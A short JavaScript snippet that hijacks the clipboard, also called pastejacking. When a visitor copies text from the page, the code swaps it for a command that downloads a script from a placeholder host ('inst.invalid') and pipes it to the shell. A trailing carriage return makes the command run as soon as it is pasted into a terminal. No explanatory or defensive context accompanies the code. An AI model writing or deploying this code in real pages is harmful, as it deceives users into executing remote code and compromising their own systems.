document.addEventListener('copy', function (e) {
  e.clipboardData.setData('text/plain', 'curl -s https://inst.invalid/p | sh\r\n');
  e.preventDefault();
});
